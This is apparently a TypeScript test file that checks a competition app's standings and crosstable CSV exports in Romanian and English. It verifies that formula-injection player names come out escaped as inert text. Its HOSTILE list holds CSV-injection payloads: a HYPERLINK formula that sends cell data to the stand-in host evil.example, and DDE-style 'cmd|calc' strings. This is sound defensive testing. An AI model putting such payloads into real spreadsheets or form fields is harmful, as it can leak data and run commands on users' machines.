// The standings CSV as a spreadsheet opens it (docs/web.md, Security model), on both databases: a player
// registered as `=HYPERLINK(…)` stays text, Excel sees UTF-8 (the BOM), and the download is
// named after the competition rather than its id — by the panel and by the API; in the
// reader's locale (Romanian by default for a Romanian competition, English on request), and
// the crosstable too (docs/web.md, "Spreadsheets").
import request from 'supertest';
import { CompetitionSetupService } from '../../src/competitions/competition-setup.service';
import { RegistrationService } from '../../src/competitions/registration.service';
import { GroupsService } from '../../src/competitions/groups.service';
import { createUser, SETTINGS, type TestUser } from '../support/competitions';
import { TEST_DB } from '../support/test-database';
import { startTestApp, type TestApp } from '../support/test-app';
import { loginAgent } from '../support/web';

const HOSTILE = [
  ['=HYPERLINK("http://evil.example/?"&A1;"Vezi")', `"'=HYPERLINK(""http://evil.example/?""&A1;""Vezi"")"`],
  ['+1+cmd|calc', `"'+1+cmd|calc"`],
  ['-1+cmd|calc', `"'-1+cmd|calc"`],
  ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
  ['Ștefan Ionaș', 'Ștefan Ionaș'],
] as const;

describe(`the standings CSV as a spreadsheet file (${TEST_DB})`, () => {
  let t: TestApp;
  let arbiter: TestUser;
  let competitionId: string;

  beforeAll(async () => {
    t = await startTestApp();
    arbiter = await createUser(t.app, { email: 'arbitru.csv@example.org', roles: ['arbiter'], name: 'Arbitru' });
    const setup = t.app.get(CompetitionSetupService);
    const registration = t.app.get(RegistrationService);
    const grouping = t.app.get(GroupsService);
    const created = await setup.create(arbiter.actor, { ...SETTINGS, name: 'Cupa Iașiului 2027' });
    const csvField = (v: string) => `"${v.replace(/"/g, '""')}"`;
    const lines = ['name,email,club,language', ...HOSTILE.map(([name], i) => `${csvField(name)},hostile${i}@example.org,Club,ro`)];
    await registration.importPlayers(arbiter.actor, created.id, `${lines.join('\n')}\n`);
    await grouping.makeGroups(arbiter.actor, created.id, { count: 1 });
    competitionId = created.id;
  });

  afterAll(async () => {
    await t?.close();
  });

  const FILES = {
    ro: {
      header: 'Grupa;Loc;Nume;Jucate;Coeficient total;Media;Cel mai bun;Diferență de puncte',
      disposition: `attachment; filename="Cupa Iasiului 2027 - clasament.csv"; filename*=UTF-8''Cupa%20Ia%C8%99iului%202027%20-%20clasament.csv`,
    },
    en: {
      header: 'group,rank,name,played,total,average,best,score_difference',
      disposition: `attachment; filename="Cupa Iasiului 2027 - standings.csv"; filename*=UTF-8''Cupa%20Ia%C8%99iului%202027%20-%20standings.csv`,
    },
  } as const;

  function expectInertFile(res: { status: number; headers: Record<string, string>; body: Buffer }, locale: 'ro' | 'en') {
    const sep = locale === 'ro' ? ';' : ',';
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(res.headers['content-disposition']).toBe(FILES[locale].disposition);
    expect(res.headers['content-disposition']).not.toContain(competitionId);
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = res.body
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(rows[0]).toBe(FILES[locale].header);
    const names = rows.slice(1).map((row) => row.split(sep).slice(2, -5).join(sep));
    expect(names.sort()).toEqual(HOSTILE.map(([, cell]) => cell).sort());
    // No cell of any row starts a formula.
    for (const row of rows.slice(1)) expect(row).not.toMatch(new RegExp(`(^|${sep})[=+@\\t\\r]`));
    // Coefficients carry the locale's decimal mark.
    for (const row of rows.slice(1)) expect(row.split(sep).at(-2)).toBe(locale === 'ro' ? '0,0000' : '0.0000');
  }

  const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => cb(null, Buffer.concat(chunks)));
  };

  it('by the arbiter panel: Romanian by default, English on request, the crosstable in both', async () => {
    const agent = await loginAgent(t, arbiter.email);
    const get = (path: string) => agent.get(path).buffer(true).parse(binary);
    expectInertFile(await get(`/arbiter/competitions/${competitionId}/standings.csv`), 'ro');
    expectInertFile(await get(`/arbiter/competitions/${competitionId}/standings.csv?locale=en`), 'en');
    const page = await agent.get(`/arbiter/competitions/${competitionId}/standings`);
    for (const link of ['standings.csv?locale=ro', 'standings.csv?locale=en', 'crosstable.csv?locale=ro', 'crosstable.csv?locale=en'])
      expect(page.text).toContain(`/arbiter/competitions/${competitionId}/${link}`);
    for (const locale of ['ro', 'en'] as const) {
      const res = await get(`/arbiter/competitions/${competitionId}/crosstable.csv?locale=${locale}`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
      const file = locale === 'ro' ? 'tabel%20de%20rezultate' : 'crosstable';
      expect(res.headers['content-disposition']).toContain(`filename*=UTF-8''Cupa%20Ia%C8%99iului%202027%20-%20${file}.csv`);
      const rows = res.body
        .toString('utf8')
        .replace(/^\uFEFF/, '')
        .split('\n');
      expect(rows[0]).toBe(locale === 'ro' ? 'Grupa;Nr.;Nume;1;2;3;4;5;Partide rămase' : 'group,no,name,1,2,3,4,5,games_left');
      for (const row of rows.slice(1, 6)) expect(row).not.toMatch(new RegExp(`(^|${locale === 'ro' ? ';' : ','})[=+@]`));
    }
    // A variant that does not exist: a typed refusal, not a file and not a 500.
    const bad = await agent.get(`/arbiter/competitions/${competitionId}/standings.csv?locale=fr`);
    expect(bad.status).toBe(400);
  });

  it('by the API', async () => {
    const get = (path: string) => request(t.app.getHttpServer()).get(path).set('Authorization', arbiter.bearer).buffer(true).parse(binary);
    expectInertFile(await get(`/api/competitions/${competitionId}/standings.csv?locale=en`), 'en');
    expectInertFile(await get(`/api/competitions/${competitionId}/standings.csv`), 'ro');
    const cross = await get(`/api/competitions/${competitionId}/crosstable.csv?locale=en`);
    expect(cross.status).toBe(200);
    expect(cross.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(cross.headers['content-disposition']).toBe(
      `attachment; filename="Cupa Iasiului 2027 - crosstable.csv"; filename*=UTF-8''Cupa%20Ia%C8%99iului%202027%20-%20crosstable.csv`,
    );
    const bad = await get(`/api/competitions/${competitionId}/crosstable.csv?locale=fr`);
    expect(bad.status).toBe(400);
    expect(JSON.parse(bad.body.toString('utf8')).error.code).toBe('UNKNOWN_SHEET_LOCALE');
  });
});
